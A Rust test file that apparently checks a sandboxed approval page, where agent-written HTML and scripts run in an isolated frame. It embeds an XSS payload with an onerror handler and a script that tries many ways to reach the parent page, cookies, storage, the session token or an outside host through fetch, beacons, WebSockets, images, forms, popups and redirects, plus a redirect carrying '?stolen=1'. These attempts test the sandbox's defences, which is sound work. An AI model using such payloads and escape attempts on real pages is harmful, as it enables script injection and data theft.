//! What an agent writes for the page, in a real browser: it works, and it stays where it is.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests fail loudly")]

mod human_support;

use clawperator_pocket::action::Capability;
use clawperator_pocket::human::Status;
use clawperator_pocket::human::relay::Settings;
use human_support::page::{answered, content};
use serde_json::json;
use std::io::Read;
use std::net::TcpListener;

/// Nobody sent a byte there. Chromium opens a connection when a frame wants to leave, before it asks
/// whether it may, and closes it unused.
fn nothing_was_said_to(listener: &TcpListener) {
    while let Ok((mut knock, _)) = listener.accept() {
        knock.set_nonblocking(false).unwrap();
        let mut said = Vec::new();
        let _ = knock.read_to_end(&mut said);
        assert_eq!(String::from_utf8_lossy(&said), "");
    }
}

#[test]
fn what_an_agent_writes_into_texts_is_only_ever_text() {
    let evil = "</script><img src=x onerror=\"window.hacked=1\"><b>bold</b>";
    let field = json!({"id": "f", "label": evil, "type": "select", "placeholder": evil,
        "helperText": evil, "options": [{"value": evil, "label": evil}]});
    let template = json!({"title": evil, "summary": evil, "capabilityHint": evil, "approveLabel": evil,
        "rejectLabel": evil, "noteLabel": evil, "notePlaceholder": evil, "fields": [field],
        "middleHtml": evil, "style": {"brandColor": evil, "backgroundCss": evil}});
    answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
        browser.open(url);
        assert_eq!(browser.value("document.querySelector('h1').textContent"), json!(evil));
        assert_eq!(browser.value("document.querySelectorAll('main img, main b').length"), json!(0));
        assert_eq!(browser.value("typeof window.hacked"), json!("undefined"));
        browser.click(".danger");
        browser.until("document.body.innerText.includes('Rejected.')");
    });
}

#[test]
fn the_agents_own_form_works_in_its_frame() {
    let template = json!({
        "title": "Choose a seat",
        "middleHtml": "<label>Seat <input id='seat' value='12'></label><button id='go'>Window</button>",
        "middleCss": "#seat { color: rgb(1, 2, 3) }",
        "middleScript": "api.setValue('seat', '14' + api.capability); api.setStatus('mounted ' + getComputedStyle(api.getElement('seat')).color);",
        "approveScript": "if (api.note === '') return { ok: false, error: 'say why' }; if (api.note === 'boom') throw new Error('broke'); return { artifactJson: { kind: 'form', fields: { seat: api.getValue('seat') } }, note: 'seat chosen' };",
    });
    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
        browser.open(url);
        browser.until(
            "document.querySelector('.status').textContent.includes('mounted rgb(1, 2, 3)')",
        );
        browser.picture("middle");
        browser.click(".primary");
        browser.until("document.querySelector('.status').textContent.includes('say why')");
        browser.write("textarea", "boom");
        browser.click(".primary");
        browser.until("document.querySelector('.status').textContent.includes('broke')");
        browser.value("document.querySelector('textarea').value = 'because'");
        browser.click(".primary");
        browser.until("document.body.innerText.includes('Approved.')");
    });
    assert_eq!(decision.message, "seat chosen");
    assert_eq!(content(&decision)["fields"]["seat"], "14unknown");
}

#[test]
fn approve_takes_no_tap_until_what_the_agents_form_moved_stands_still() {
    let template = json!({"middleHtml": "<p style='height: 300px'>Tall</p>"});
    answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
        // The half second of standing still ends when the test says so.
        let held = "const real = setTimeout; window.setTimeout = (what, ms, ...rest) => ms === 500 && !window.go ? (window.still = what, 1) : real(what, ms, ...rest);";
        browser.call("Page.addScriptToEvaluateOnNewDocument", json!({"source": held}));
        browser.open(url);
        browser.until("document.querySelector('iframe').offsetHeight > 300");
        assert_eq!(browser.value("document.querySelector('.primary').disabled"), json!(true));
        assert_eq!(browser.value("document.querySelector('.danger').disabled"), json!(false));
        browser.value("(window.go = true, window.still())");
        browser.click(".primary");
        browser.until("document.body.innerText.includes('Approved.')");
    });
}

#[test]
fn an_approval_script_that_never_ends_blocks_the_approval() {
    let template = json!({"approveScript": "await new Promise(() => {});"});
    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
        // Fifteen seconds of the page's time, none of ours.
        let quick = "const real = setTimeout; window.setTimeout = (what, ms, ...rest) => real(what, ms === 15000 ? 0 : ms, ...rest);";
        browser.call("Page.addScriptToEvaluateOnNewDocument", json!({"source": quick}));
        browser.open(url);
        browser.click(".primary");
        browser.until("document.querySelector('.status').textContent.includes('15 seconds')");
        browser.click(".danger");
        browser.until("document.body.innerText.includes('Rejected.')");
    });
    assert_eq!(decision.status, Status::Rejected);
}

#[test]
fn the_agents_scripts_reach_neither_the_page_nor_the_token_nor_a_network() {
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let there = format!("http://{}", outside.local_addr().unwrap());
    // Tries everything and says what came of it.
    let script = format!(
        "const got = {{}};
         const attempt = async (name, what) => {{
           try {{ got[name] = 'GOT ' + String(await what()).slice(0, 80); }} catch (error) {{ got[name] = 'no'; }}
         }};
         await attempt('parent', () => parent.document.body.innerHTML);
         await attempt('top', () => top.location.href);
         await attempt('opener', () => {{ if (!window.opener) throw 0; return 1; }});
         await attempt('storage', () => localStorage.length);
         await attempt('cookie', () => document.cookie);
         await attempt('fetch', () => fetch('{there}/fetch'));
         await attempt('relay', () => fetch('/healthz'));
         await attempt('beacon', () => {{ navigator.sendBeacon('{there}/beacon'); throw 0; }});
         await attempt('socket', () => new Promise((yes, no) => {{ const s = new WebSocket('{there}'.replace('http', 'ws')); s.onopen = yes; s.onerror = no; }}));
         await attempt('image', () => new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = no; i.src = '{there}/image'; }}));
         await attempt('frame', () => {{ const f = document.createElement('iframe'); f.src = '{there}/frame'; document.body.append(f); throw 0; }});
         await attempt('form', () => {{ const f = document.createElement('form'); f.action = '{there}/form'; document.body.append(f); f.submit(); throw 0; }});
         await attempt('popup', () => {{ if (!window.open('{there}/popup')) throw 0; return 1; }});
         await attempt('eval', () => eval('1'));
         await attempt('moveTop', () => {{ top.location = '{there}/top'; throw 0; }});
         got.referrer = document.referrer; got.origin = String(self.origin); got.here = location.href;
         got.api = Object.keys(api).join();
         parent.postMessage({{ do: 'artifact', artifact: {{ mimeType: 'a/b', base64: '' }} }}, '*');
         api.setArtifactJson(got);
         api.setStatus('tried all');"
    );
    let field = json!({"id": "f", "label": "Password", "type": "password"});
    let template = json!({"middleScript": script, "fields": [field], "approveScript":
        "const a = api.currentArtifact; return { note: 'fields ' + api.hasArtifact + ' ' + JSON.stringify(api.uiTemplate.fields.map((f) => f.value)) };"});
    let mut token = String::new();
    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
        token = url.split_once("?token=").unwrap().1.to_owned();
        browser.open(url);
        browser.until("document.querySelector('.status').textContent.includes('tried all')");
        browser.click(".primary");
        browser.until("document.body.innerText.includes('Approved.')");
    });
    let got = content(&decision);
    for name in [
        "parent", "top", "opener", "storage", "cookie", "fetch", "relay", "beacon", "socket",
        "image", "frame", "form", "popup", "eval", "moveTop",
    ] {
        assert_eq!(got[name], "no", "{name}: {got}");
    }
    assert_eq!((&got["referrer"], &got["origin"]), (&json!(""), &json!("null")));
    assert!(got["here"].as_str().unwrap().ends_with("/human-auth/assets/stage.html"));
    assert!(!got.to_string().contains(&token));
    assert_eq!(decision.message, "fields true [null]");
    nothing_was_said_to(&outside);
}

#[test]
fn a_frame_that_leaves_gets_nowhere_and_approves_nothing() {
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let there = format!("http://{}", outside.local_addr().unwrap());
    let template = json!({
        "middleScript": format!("location.href = '{there}/?stolen=1';"),
        "approveScript": "return {};",
    });
    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
        browser.open(url);
        browser.until("!document.querySelector('iframe')");
        browser.click(".primary");
        browser.until("document.querySelector('.status').textContent.includes('left')");
        browser.click(".danger");
        browser.until("document.body.innerText.includes('Rejected.')");
    });
    assert_eq!(decision.status, Status::Rejected);
    nothing_was_said_to(&outside);
}
